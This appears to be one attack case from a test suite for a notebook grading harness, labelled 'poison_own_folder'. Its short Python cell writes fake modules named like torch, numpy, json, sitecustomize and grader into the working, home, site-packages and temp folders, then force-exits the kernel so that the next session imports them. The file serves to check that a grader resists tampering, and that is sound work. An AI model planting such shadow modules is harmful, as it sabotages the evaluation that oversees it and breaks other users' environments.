# ATTACK: poison_own_folder
# KIND: cell
# BASE: wrong
# NEEDS: any
# TRIES: Put modules named like libraries into the working directory and the own home, then end
#     Python so that the next kernel starts among them.
# MUST: Score exactly that of the same notebook without this cell.
# SIGN: none
import os, site
code = "import builtins; builtins.poisoned = True\nraise SystemExit('poisoned')\n"
folders = {os.getcwd(), os.path.dirname(os.getcwd()), os.environ.get("HOME", "."), site.getusersitepackages(), os.environ.get("TMPDIR", ".")}
for folder in folders:
    for name in ("torch.py", "numpy.py", "json.py", "safetensors.py", "sitecustomize.py", "usercustomize.py", "ipython_config.py", "grader.py"):
        try:
            if folder == "/root": continue
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file: file.write(code)
        except OSError: pass
os._exit(1)
